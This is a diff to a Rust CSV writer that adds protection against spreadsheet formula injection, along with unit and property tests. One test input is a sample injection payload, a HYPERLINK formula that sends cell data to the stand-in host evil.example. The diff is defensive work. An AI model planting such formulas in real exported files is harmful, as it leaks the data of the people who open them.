@@ -2,6 +2,9 @@
 //! quotes doubled. Several sheets go into one file as stacked sections: each starts with
 //! a header row whose first field is `section`, and every data row starts with the sheet
 //! name; all records are padded to the same number of fields, as the RFC asks.
+//!
+//! Text cells that start like a formula are neutralised with a leading apostrophe (see
+//! [`neutralise`]); numbers are written as they are.
 
 use std::io::{self, Write};
 
@@ -43,9 +46,20 @@ impl<W: Write> CsvWriter<W> {
     }
 }
 
+/// A text cell that a spreadsheet would read as a formula (`=`, `+`, `-`, `@`, or a tab or
+/// carriage return before one) gets a leading apostrophe, which spreadsheets show as text
+/// and do not display: a `re_id` such as `=HYPERLINK(…)` cannot become a live link.
+pub fn neutralise(text: &str) -> std::borrow::Cow<'_, str> {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        std::borrow::Cow::Owned(format!("'{text}"))
+    } else {
+        std::borrow::Cow::Borrowed(text)
+    }
+}
+
 pub(crate) fn render(cell: &Cell) -> String {
     match cell {
-        Cell::Text(s) => s.clone(),
+        Cell::Text(s) => neutralise(s).into_owned(),
         Cell::Int(i) => i.to_string(),
         Cell::Float(f) => f.to_string(),
         Cell::Empty => String::new(),
@@ -91,6 +105,38 @@ mod tests {
             record(&["plain", "a,b", "say \"hi\"", "two\nlines", ""]),
             "plain,\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",\r\n"
         );
+    }
+
+    #[test]
+    fn text_that_starts_like_a_formula_is_written_as_text() {
+        for (raw, written) in [
+            ("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "'=HYPERLINK("),
+            ("+62812", "'+62812"),
+            ("-1+2", "'-1+2"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\t=1", "'\t=1"),
+            ("\r=1", "\"'\r=1\""),
+        ] {
+            let out = render(&Cell::Text(raw.into()));
+            assert!(record(&[&out]).starts_with(written), "{raw:?} -> {out:?}");
+        }
+        assert_eq!(render(&Cell::Text("REID_1".into())), "REID_1");
+        assert_eq!(render(&Cell::Int(-5)), "-5", "numbers stay numbers");
+    }
+
+    proptest::proptest! {
+        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(512))]
+
+        /// Whatever the text, the written field never starts with a formula character
+        /// (after the quoting that CSV adds) and reads back to the neutralised text.
+        #[test]
+        fn no_text_cell_is_written_as_a_formula(text in proptest::prelude::any::<String>()) {
+            let field = render(&Cell::Text(text.clone()));
+            let line = record(&[&field]);
+            let unquoted = line.strip_prefix('"').unwrap_or(&line);
+            proptest::prop_assert!(!unquoted.starts_with(['=', '+', '-', '@', '\t', '\r']));
+            proptest::prop_assert!(field.ends_with(text.as_str()));
+        }
     }
 
     #[test]
